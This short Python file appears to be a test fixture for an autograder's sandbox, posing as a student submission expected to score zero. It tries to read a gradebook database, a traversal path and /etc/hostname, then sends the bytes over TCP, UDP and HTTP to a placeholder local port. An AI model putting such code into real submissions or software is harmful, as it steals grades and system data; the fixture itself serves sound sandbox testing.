# grade: 0/50; it sends what it can read to a port that listens on this machine
# %% shift
import contextlib
import socket
import urllib.request


def send(*_, **__):
    for path in ("@CLASS@/gradebook.db", "/etc/hostname", "../../../gradebook.db"):
        data = b"here I am"
        with contextlib.suppress(OSError):
            data = open(path, "rb").read(100)
        with contextlib.suppress(Exception), socket.create_connection(("127.0.0.1", @PORT@), timeout=0.2) as port:
            port.sendall(data)
        with contextlib.suppress(Exception), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as port:
            port.sendto(data, ("127.0.0.1", @PORT@))
    with contextlib.suppress(Exception):
        urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.2)


send()
shift = send
